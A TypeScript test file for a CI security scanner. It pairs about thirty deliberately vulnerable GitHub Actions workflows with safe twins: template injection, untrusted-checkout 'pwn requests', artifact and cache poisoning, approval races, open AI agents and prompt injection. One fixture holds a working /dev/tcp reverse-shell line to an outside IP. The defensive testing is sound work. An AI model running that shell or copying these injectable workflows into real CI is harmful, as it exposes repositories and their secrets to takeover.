// Workflows as they were exploited in public, each found by the rule that names what is wrong, at its place and with its path; and
// their twins, in which the same work is done safely, in which nothing of the kind is said. All written for this test.

import type { Finding } from '@portcullis/core';
import { settingsOf } from '@portcullis/workspace';
import { temporaryRepository } from '../../../../test/harness/repository.js';
import { engine } from './index.js';
import { familyOf } from './rules/index.js';

type Files = Readonly<Record<string, string>>;

interface Incident {
  readonly name: string;
  readonly files: Files;
  readonly rule: string;
  readonly severity: Finding['severity'];
  /** Path and line of the finding. */
  readonly at: string;
  /** Files of the path, in order, each where the path comes into it. */
  readonly through?: readonly string[];
  readonly twin: Files;
}

const ci = '.github/workflows/ci.yml';
const pin = '11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2';

function workflow(on: string, job: string): string {
  return `name: ci\n${on}\n${job}`;
}

const incidents: readonly Incident[] = [
  {
    name: 'an issue’s title in a script',
    files: {
      [ci]: workflow(
        'on: issues',
        'jobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo "New: ${{ github.event.issue.title }}"\n',
      ),
    },
    rule: 'template-injection',
    severity: 'critical',
    at: `${ci}:8`,
    through: [ci],
    twin: {
      [ci]: workflow(
        'on: issues',
        'jobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: |\n          echo "New: $TITLE"\n',
      ),
    },
  },
  {
    name: 'a pull request’s branch name in a script of JavaScript',
    files: {
      [ci]: workflow(
        'on: pull_request_target',
        "jobs:\n  label:\n    permissions:\n      pull-requests: write\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.info('${{ github.event.pull_request.head.ref }}')\n",
      ),
    },
    rule: 'template-injection',
    severity: 'critical',
    at: `${ci}:12`,
    twin: {
      [ci]: workflow(
        'on: pull_request_target',
        'jobs:\n  label:\n    permissions:\n      pull-requests: write\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            core.info(context.payload.pull_request.head.ref)\n',
      ),
    },
  },
  {
    name: 'a pwn request',
    files: {
      [ci]: workflow(
        'on: pull_request_target',
        `jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${pin}\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n`,
      ),
    },
    rule: 'untrusted-checkout-execution',
    severity: 'critical',
    at: `${ci}:10`,
    through: [ci],
    twin: {
      [ci]: workflow(
        'on: pull_request',
        `permissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@${pin}\n        with:\n          persist-credentials: false\n      - run: npm ci && npm test\n`,
      ),
    },
  },
  {
    name: 'a pwn request by the number of the pull request, set off by a comment',
    files: {
      [ci]: workflow(
        'on:\n  issue_comment:\n    types: [created]',
        "jobs:\n  bench:\n    if: contains(github.event.comment.body, '/bench')\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - env:\n          GH_TOKEN: ${{ github.token }}\n        run: gh pr checkout ${{ github.event.issue.number }}\n      - run: make bench\n",
      ),
    },
    rule: 'untrusted-checkout-execution',
    severity: 'critical',
    at: `${ci}:14`,
    twin: {
      [ci]: workflow(
        'on:\n  issue_comment:\n    types: [created]',
        "jobs:\n  bench:\n    if: contains(github.event.comment.body, '/bench')\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - run: make bench\n",
      ),
    },
  },
  {
    name: 'a local action of the pull request’s own',
    files: {
      [ci]: workflow(
        'on: pull_request_target',
        'jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          repository: ${{ github.event.pull_request.head.repo.full_name }}\n          ref: ${{ github.event.pull_request.head.ref }}\n      - uses: ./.github/actions/build\n',
      ),
      '.github/actions/build/action.yml':
        'name: build\ndescription: Builds.\nruns:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n',
    },
    rule: 'untrusted-checkout-execution',
    severity: 'critical',
    at: `${ci}:11`,
    twin: {
      [ci]: workflow(
        'on: pull_request_target',
        'jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - uses: ./.github/actions/build\n',
      ),
      '.github/actions/build/action.yml':
        'name: build\ndescription: Builds.\nruns:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n',
    },
  },
  {
    name: 'a poisoned artifact that is run',
    files: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
        'jobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          name: build\n          run-id: ${{ github.event.workflow_run.id }}\n          github-token: ${{ github.token }}\n      - run: ./publish.sh\n',
      ),
      '.github/workflows/test.yml':
        'name: test\non: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
    },
    rule: 'artifact-poisoning',
    severity: 'critical',
    at: `${ci}:15`,
    twin: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
        "jobs:\n  publish:\n    if: github.event.workflow_run.event == 'push'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          name: build\n          run-id: ${{ github.event.workflow_run.id }}\n          github-token: ${{ github.token }}\n      - run: ./publish.sh\n",
      ),
      '.github/workflows/test.yml':
        'name: test\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make\n',
    },
  },
  {
    name: 'a file of an artifact in GITHUB_ENV',
    files: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
        'jobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: dawidd6/action-download-artifact@v6\n        with:\n          run_id: ${{ github.event.workflow_run.id }}\n          path: pr\n      - run: echo "PR=$(cat pr/number)" >> "$GITHUB_ENV"\n      - run: gh pr comment "$PR" --body done\n',
      ),
    },
    rule: 'github-env',
    severity: 'critical',
    at: `${ci}:14`,
    twin: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
        'jobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: dawidd6/action-download-artifact@v6\n        with:\n          run_id: ${{ github.event.workflow_run.id }}\n          path: pr\n      - run: echo "PR=$(tr -cd 0-9 < pr/number)" >> "$GITHUB_ENV"\n      - run: gh pr comment "$PR" --body done\n',
      ),
    },
  },
  {
    name: 'a module that an artifact may have replaced',
    files: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
        "jobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - run: gh run download ${{ github.event.workflow_run.id }}\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const report = require('./.github/report.js')\n            await report(github)\n",
      ),
    },
    rule: 'artifact-poisoning',
    severity: 'critical',
    at: `${ci}:15`,
    twin: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
        "jobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - run: gh run download ${{ github.event.workflow_run.id }} --dir reports-of-run\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const report = require('./.github/report.js')\n            await report(github)\n",
      ),
    },
  },
  {
    name: 'a file of an artifact that the same script brings and reads',
    files: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
        'jobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - id: pull\n        run: |\n          gh run download ${{ github.event.workflow_run.id }} -n pull\n          echo "number=$(cat number)" >> "$GITHUB_OUTPUT"\n      - run: gh pr comment ${{ steps.pull.outputs.number }} --body done\n',
      ),
    },
    rule: 'template-injection',
    severity: 'critical',
    at: `${ci}:14`,
    twin: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
        'jobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - id: pull\n        run: |\n          gh run download ${{ github.event.workflow_run.id }} -n pull -D pull\n          echo "number=$(tr -cd 0-9 < pull/number)" >> "$GITHUB_OUTPUT"\n      - run: gh pr comment ${{ steps.pull.outputs.number }} --body done\n',
      ),
    },
  },
  {
    name: 'an answer of a model that an outsider asked',
    files: {
      [ci]: workflow(
        'on:\n  issues:\n    types: [opened]',
        "jobs:\n  answer:\n    runs-on: ubuntu-latest\n    steps:\n      - id: ai\n        uses: actions/ai-inference@v1\n        with:\n          prompt: Sum up ${{ github.event.issue.body }}\n      - run: gh issue comment 1 --body '${{ steps.ai.outputs.response }}'\n",
      ),
    },
    rule: 'template-injection',
    severity: 'critical',
    at: `${ci}:13`,
    twin: {
      [ci]: workflow(
        'on:\n  issues:\n    types: [opened]',
        "jobs:\n  answer:\n    runs-on: ubuntu-latest\n    steps:\n      - id: ai\n        uses: actions/ai-inference@v1\n        with:\n          prompt: Sum up the week\n      - run: gh issue comment 1 --body '${{ steps.ai.outputs.response }}'\n",
      ),
    },
  },
  {
    name: 'a cache in the job that publishes a release',
    files: {
      [ci]: workflow(
        'on:\n  release:\n    types: [published]',
        'jobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: node_modules\n          key: modules\n      - run: npm publish\n',
      ),
    },
    rule: 'cache-poisoning',
    severity: 'medium',
    at: `${ci}:9`,
    twin: {
      [ci]: workflow(
        'on:\n  release:\n    types: [published]',
        'jobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npm ci\n      - run: npm publish\n',
      ),
    },
  },
  {
    name: 'a label that stays when the author pushes again',
    files: {
      [ci]: workflow(
        'on:\n  pull_request_target:\n    types: [labeled, synchronize]',
        "jobs:\n  e2e:\n    if: contains(github.event.pull_request.labels.*.name, 'safe to test')\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make e2e\n",
      ),
    },
    rule: 'approval-race',
    severity: 'high',
    at: `${ci}:10`,
    twin: {
      [ci]: workflow(
        'on:\n  pull_request:\n    types: [labeled]',
        "permissions:\n  contents: read\njobs:\n  e2e:\n    if: github.event.label.name == 'safe to test'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make e2e\n",
      ),
    },
  },
  {
    name: 'a member’s comment on one state of a pull request, and a checkout of another',
    files: {
      [ci]: workflow(
        'on: issue_comment',
        "jobs:\n  e2e:\n    if: github.event.comment.body == '/ok-to-test' && github.event.comment.author_association == 'MEMBER'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: refs/pull/${{ github.event.issue.number }}/merge\n      - run: make e2e\n",
      ),
    },
    rule: 'approval-race',
    severity: 'high',
    at: `${ci}:8`,
    twin: {
      [ci]: workflow(
        'on: issue_comment',
        "jobs:\n  e2e:\n    if: github.event.comment.body == '/ok-to-test' && github.event.comment.author_association == 'MEMBER'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - run: make e2e\n",
      ),
    },
  },
  {
    name: 'a merge for whoever makes a bot act last',
    files: {
      [ci]: workflow(
        'on: pull_request_target',
        'jobs:\n  merge:\n    if: github.actor == \'dependabot[bot]\'\n    permissions:\n      contents: write\n      pull-requests: write\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr merge --auto --squash "$URL"\n        env:\n          URL: ${{ github.event.pull_request.html_url }}\n',
      ),
    },
    rule: 'confused-deputy-merge',
    severity: 'high',
    at: `${ci}:11`,
    twin: {
      [ci]: workflow(
        'on: pull_request',
        'jobs:\n  merge:\n    if: github.event.pull_request.user.login == \'dependabot[bot]\' && github.event.pull_request.head.repo.full_name == github.repository\n    permissions:\n      contents: write\n      pull-requests: write\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr merge --auto --squash "$URL"\n        env:\n          URL: ${{ github.event.pull_request.html_url }}\n',
      ),
    },
  },
  {
    name: 'a runner of one’s own that runs what forks send',
    files: {
      [ci]: workflow(
        'on: pull_request',
        'permissions:\n  contents: read\njobs:\n  test:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make test\n',
      ),
    },
    rule: 'untrusted-checkout-execution',
    severity: 'high',
    at: `${ci}:12`,
    twin: {
      [ci]: workflow(
        'on: pull_request',
        'permissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make test\n',
      ),
    },
  },
  {
    name: 'names of changed files in a script',
    files: {
      [ci]: workflow(
        'on: pull_request_target',
        'jobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - id: changed\n        uses: tj-actions/changed-files@v44\n      - run: |\n          for file in ${{ steps.changed.outputs.all_changed_files }}; do echo "$file"; done\n',
      ),
    },
    rule: 'template-injection',
    severity: 'critical',
    at: `${ci}:10`,
    twin: {
      [ci]: workflow(
        'on: pull_request_target',
        'jobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - id: changed\n        uses: tj-actions/changed-files@v44\n      - env:\n          FILES: ${{ steps.changed.outputs.all_changed_files }}\n        run: |\n          for file in $FILES; do echo "$file"; done\n',
      ),
    },
  },
  {
    name: 'a comment through a reusable workflow into a script, over two files',
    files: {
      [ci]: workflow(
        'on: issue_comment',
        'jobs:\n  deploy:\n    uses: ./.github/workflows/deploy.yml\n    with:\n      target: ${{ github.event.comment.body }}\n    secrets: inherit\n',
      ),
      '.github/workflows/deploy.yml':
        'name: deploy\non:\n  workflow_call:\n    inputs:\n      target:\n        type: string\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy ${{ inputs.target }}\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n',
    },
    rule: 'template-injection',
    severity: 'critical',
    at: '.github/workflows/deploy.yml:11',
    through: [ci, '.github/workflows/deploy.yml'],
    twin: {
      [ci]: workflow(
        'on: issue_comment',
        'jobs:\n  deploy:\n    uses: ./.github/workflows/deploy.yml\n    with:\n      target: production\n    secrets: inherit\n',
      ),
      '.github/workflows/deploy.yml':
        'name: deploy\non:\n  workflow_call:\n    inputs:\n      target:\n        type: string\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./deploy ${{ inputs.target }}\n        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n',
    },
  },
  {
    name: 'a title through an output, a job and a composite action, over three files',
    files: {
      [ci]: workflow(
        'on: pull_request_target',
        'jobs:\n  read:\n    uses: ./.github/workflows/read.yml\n  use:\n    needs: read\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/say\n        with:\n          text: ${{ needs.read.outputs.title }}\n',
      ),
      '.github/workflows/read.yml':
        'name: read\non:\n  workflow_call:\n    outputs:\n      title:\n        value: ${{ jobs.read.outputs.title }}\njobs:\n  read:\n    runs-on: ubuntu-latest\n    outputs:\n      title: ${{ steps.read.outputs.title }}\n    steps:\n      - id: read\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"\n',
      '.github/actions/say/action.yml':
        'name: say\ndescription: Says.\ninputs:\n  text:\n    description: What.\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: echo ${{ inputs.text }}\n',
    },
    rule: 'template-injection',
    severity: 'critical',
    at: '.github/actions/say/action.yml:10',
    through: ['.github/workflows/read.yml', ci, '.github/actions/say/action.yml'],
    twin: {
      [ci]: workflow(
        'on: pull_request_target',
        'jobs:\n  read:\n    uses: ./.github/workflows/read.yml\n  use:\n    needs: read\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/say\n        with:\n          text: ${{ needs.read.outputs.title }}\n',
      ),
      '.github/workflows/read.yml':
        'name: read\non:\n  workflow_call:\n    outputs:\n      title:\n        value: ${{ jobs.read.outputs.title }}\njobs:\n  read:\n    runs-on: ubuntu-latest\n    outputs:\n      title: ${{ steps.read.outputs.title }}\n    steps:\n      - id: read\n        env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo "title=$TITLE" >> "$GITHUB_OUTPUT"\n',
      '.github/actions/say/action.yml':
        'name: say\ndescription: Says.\ninputs:\n  text:\n    description: What.\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        TEXT: ${{ inputs.text }}\n      run: echo "$TEXT"\n',
    },
  },
  {
    name: 'a comment that is run as a command',
    files: {
      [ci]: workflow(
        'on: issue_comment',
        'jobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: |\n          COMMAND=$(echo "$BODY" | sed "s,^/run ,,")\n          bash -c "$COMMAND"\n',
      ),
    },
    rule: 'shell-eval-injection',
    severity: 'critical',
    at: `${ci}:11`,
    twin: {
      [ci]: workflow(
        'on: issue_comment',
        'jobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: |\n          COMMAND=$(echo "$BODY" | sed "s,^/run ,,")\n          case "$COMMAND" in\n            test) make test ;;\n            lint) make lint ;;\n          esac\n',
      ),
    },
  },
  {
    name: 'an issue’s body as several outputs',
    files: {
      [ci]: workflow(
        'on: issues',
        'jobs:\n  read:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.issue.body }}\n        run: |\n          echo "body=$BODY" >> "$GITHUB_OUTPUT"\n          echo "trusted=false" >> "$GITHUB_OUTPUT"\n',
      ),
    },
    rule: 'output-clobbering',
    severity: 'high',
    at: `${ci}:10`,
    twin: {
      [ci]: workflow(
        'on: issues',
        'jobs:\n  read:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.issue.body }}\n        run: |\n          END=$(openssl rand -hex 16)\n          echo "body<<$END" >> "$GITHUB_OUTPUT"\n          echo "trusted=false" >> "$GITHUB_OUTPUT"\n',
      ),
    },
  },
  {
    name: 'an agent that anybody starts and that may push',
    files: {
      [ci]: workflow(
        'on: issues',
        "jobs:\n  triage:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: anthropics/claude-code-action@v1\n        with:\n          anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}\n          allowed_non_write_users: '*'\n",
      ),
    },
    rule: 'ai-agent-open-to-all',
    severity: 'high',
    at: `${ci}:9`,
    twin: {
      [ci]: workflow(
        'on: issues',
        'jobs:\n  triage:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: write\n    steps:\n      - uses: anthropics/claude-code-action@v1\n        with:\n          anthropic_api_key: ${{ secrets.ANTHROPIC_API_KEY }}\n',
      ),
    },
  },
  {
    name: 'an issue’s body in an agent’s prompt',
    files: {
      [ci]: workflow(
        'on: issues',
        'jobs:\n  triage:\n    runs-on: ubuntu-latest\n    permissions:\n      issues: write\n    steps:\n      - uses: actions/ai-inference@v1\n        with:\n          prompt: |\n            Sum up: ${{ github.event.issue.body }}\n',
      ),
    },
    rule: 'ai-prompt-injection',
    severity: 'medium',
    at: `${ci}:12`,
    twin: {
      [ci]: workflow(
        'on:\n  schedule:\n    - cron: 0 5 * * 1',
        'jobs:\n  triage:\n    runs-on: ubuntu-latest\n    permissions:\n      issues: write\n    steps:\n      - uses: actions/ai-inference@v1\n        with:\n          prompt: Sum up the week.\n',
      ),
    },
  },
  {
    name: 'a shell that a changed action hands out',
    files: {
      [ci]: workflow(
        'on: push',
        'permissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          make\n          exec 5<>/dev/tcp/198.51.100.7/443; cat <&5 | bash -i 2>&5 >&5\n',
      ),
    },
    rule: 'reverse-shell',
    severity: 'critical',
    at: `${ci}:10`,
    twin: {
      [ci]: workflow(
        'on: push',
        'permissions: {}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          make\n          timeout 3 bash -c "</dev/tcp/localhost/5432"\n',
      ),
    },
  },
  {
    name: 'the head of a pull request out of a whole answer of the API',
    files: {
      [ci]: workflow(
        'on: issue_comment',
        'permissions:\n  contents: write\njobs:\n  bump:\n    runs-on: ubuntu-latest\n    steps:\n      - id: pull\n        uses: actions/github-script@v7\n        with:\n          script: |\n            const result = await github.rest.pulls.get({ ...context.repo, pull_number: context.issue.number })\n            return result.data\n      - uses: actions/checkout@v4.2.2\n        with:\n          repository: ${{ fromJSON(steps.pull.outputs.result).head.repo.full_name }}\n          ref: ${{ fromJSON(steps.pull.outputs.result).head.ref }}\n      - run: ./version.sh\n',
      ),
    },
    rule: 'untrusted-checkout-execution',
    severity: 'critical',
    at: `${ci}:19`,
    twin: {
      [ci]: workflow(
        'on: issue_comment',
        'permissions:\n  contents: write\njobs:\n  bump:\n    runs-on: ubuntu-latest\n    steps:\n      - id: pull\n        uses: actions/github-script@v7\n        with:\n          script: |\n            const result = await github.rest.pulls.get({ ...context.repo, pull_number: context.issue.number })\n            return result.data\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ fromJSON(steps.pull.outputs.result).base.sha }}\n      - run: ./version.sh\n',
      ),
    },
  },
  {
    name: 'the same by an action that asks the API',
    files: {
      [ci]: workflow(
        'on: issue_comment',
        'permissions:\n  contents: write\njobs:\n  bump:\n    runs-on: ubuntu-latest\n    steps:\n      - id: pull\n        uses: octokit/request-action@v2.x\n        with:\n          route: GET /repos/o/r/pulls/${{ github.event.issue.number }}\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ fromJSON(steps.pull.outputs.data).head.sha }}\n      - run: poetry install\n',
      ),
    },
    rule: 'untrusted-checkout-execution',
    severity: 'critical',
    at: `${ci}:16`,
    twin: {
      [ci]: workflow(
        'on: issue_comment',
        'permissions:\n  contents: write\njobs:\n  bump:\n    runs-on: ubuntu-latest\n    steps:\n      - id: pull\n        uses: octokit/request-action@v2.x\n        with:\n          route: GET /repos/o/r/pulls/${{ github.event.issue.number }}\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ fromJSON(steps.pull.outputs.data).base.sha }}\n      - run: poetry install\n',
      ),
    },
  },
  {
    name: 'a ref that an action chooses between two',
    files: {
      [ci]: workflow(
        'on: [push, pull_request_target]',
        "permissions:\n  checks: write\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: haya14busa/action-cond@v1\n        id: ref\n        with:\n          cond: ${{ github.event_name == 'pull_request_target' }}\n          if_true: refs/pull/${{ github.event.pull_request.number }}/merge\n          if_false: ${{ github.ref }}\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ steps.ref.outputs.value }}\n      - run: mvn verify\n",
      ),
    },
    rule: 'untrusted-checkout-execution',
    severity: 'critical',
    at: `${ci}:18`,
    twin: {
      [ci]: workflow(
        'on: [push, pull_request_target]',
        "permissions:\n  checks: write\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: haya14busa/action-cond@v1\n        id: ref\n        with:\n          cond: ${{ github.event_name == 'pull_request_target' }}\n          if_true: main\n          if_false: ${{ github.ref }}\n      - uses: actions/checkout@v4.2.2\n        with:\n          ref: ${{ steps.ref.outputs.value }}\n      - run: mvn verify\n",
      ),
    },
  },
  {
    name: 'a pull request that hub checks out',
    files: {
      [ci]: workflow(
        'on: issue_comment',
        'permissions:\n  contents: write\njobs:\n  update:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - run: hub pr checkout ${{ github.event.issue.number }}\n      - run: jlpm\n',
      ),
    },
    rule: 'untrusted-checkout-execution',
    severity: 'critical',
    at: `${ci}:11`,
    twin: {
      [ci]: workflow(
        'on: issue_comment',
        'permissions:\n  contents: write\njobs:\n  update:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - run: hub pr show ${{ github.event.issue.number }}\n      - run: jlpm\n',
      ),
    },
  },
  {
    name: 'a module that an artifact may have replaced, by the folder that an expression names',
    files: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]',
        "permissions:\n  issues: write\njobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - uses: actions/download-artifact@v4\n        with:\n          name: output\n          run-id: ${{ github.event.workflow_run.id }}\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const { post } = await import('${{ github.workspace }}/scripts/post.mjs')\n            await post(github)\n",
      ),
    },
    rule: 'artifact-poisoning',
    severity: 'critical',
    at: `${ci}:19`,
    twin: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]',
        "permissions:\n  issues: write\njobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4.2.2\n      - uses: actions/download-artifact@v4\n        with:\n          name: output\n          path: ${{ runner.temp }}/output-of-run\n          run-id: ${{ github.event.workflow_run.id }}\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const { post } = await import('${{ github.workspace }}/scripts/post.mjs')\n            await post(github)\n",
      ),
    },
  },
  {
    name: 'a file of an artifact that Python reads out of a folder of the runner',
    files: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]',
        'permissions:\n  issues: write\njobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          name: pull\n          path: ${{ runner.temp }}/pull\n          run-id: ${{ github.event.workflow_run.id }}\n      - shell: python\n        run: |\n          import os\n          number = open(os.environ["RUNNER_TEMP"] + "/pull/number.txt").read()\n          os.system("gh pr comment " + number)\n',
      ),
    },
    rule: 'shell-eval-injection',
    severity: 'critical',
    at: `${ci}:20`,
    twin: {
      [ci]: workflow(
        'on:\n  workflow_run:\n    workflows: [test]',
        'permissions:\n  issues: write\njobs:\n  comment:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          name: pull\n          path: ${{ runner.temp }}/pull\n          run-id: ${{ github.event.workflow_run.id }}\n      - shell: python\n        run: |\n          import os\n          number = int(open(os.environ["RUNNER_TEMP"] + "/pull/number.txt").read())\n          os.system("gh pr comment " + str(number))\n',
      ),
    },
  },
  {
    name: 'an input of an action that others use, whose own test hands a harmless value',
    files: {
      [ci]: workflow(
        'on: push',
        'permissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./\n        with:\n          title: A title\n',
      ),
      'action.yml':
        "name: check\ndescription: Checks.\ninputs:\n  title:\n    description: What to check.\n    default: ${{ github.event.pull_request.title }}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: |\n        [[ '${{ inputs.title }}' =~ WIP ]]\n",
    },
    rule: 'template-injection',
    severity: 'medium',
    at: 'action.yml:12',
    twin: {
      [ci]: workflow(
        'on: push',
        'permissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./\n        with:\n          title: A title\n',
      ),
      'action.yml':
        'name: check\ndescription: Checks.\ninputs:\n  title:\n    description: What to check.\n    default: ${{ github.event.pull_request.title }}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      env:\n        TITLE: ${{ inputs.title }}\n      run: |\n        [[ "$TITLE" =~ WIP ]]\n',
    },
  },
];

async function audit(files: Files): Promise<readonly Finding[]> {
  const repository = temporaryRepository();
  for (const [path, text] of Object.entries(files)) repository.put(path, text);
  const inputs = Object.fromEntries(Object.entries(engine.inputs).map(([name, spec]) => [name, spec.default]));
  const { findings, coverage } = await engine.scan(inputs as never, {
    workspace: repository.path,
    now: () => new Date('2026-01-01T00:00:00Z'),
    settings: settingsOf(repository.path, undefined),
    committed: false,
    environment: {},
  });
  repository.remove();
  expect(coverage.skipped.filter(({ gap }) => gap)).toEqual([]);
  // Whether actions are pinned and rights are few is not what this is about.
  return findings.filter(({ ruleId }) => ['injection', 'triggers'].includes(familyOf(ruleId) ?? ''));
}

test('there are at least twenty', () => {
  expect(incidents.length).toBeGreaterThanOrEqual(20);
});

test.each(incidents)('$name', async ({ files, rule, severity, at, through }) => {
  const findings = await audit(files);
  const places = findings.map(
    ({ ruleId, location, severity: found }) => `${ruleId} ${found} ${location.path}:${location.region?.startLine}`,
  );
  expect(places).toContain(`${rule} ${severity} ${at}`);
  if (through === undefined) return;
  const flow = findings.find(({ ruleId }) => ruleId === rule)?.flow ?? [];
  expect(flow.map(({ path }) => path).filter((path, i, all) => path !== all[i - 1])).toEqual(through);
  expect(flow.every(({ message }) => message !== undefined && message !== '')).toBe(true);
});

test.each(incidents)('$name: the safe twin is silent', async ({ twin }) => {
  expect((await audit(twin)).map(({ ruleId, message }) => `${ruleId}: ${message}`)).toEqual([]);
});
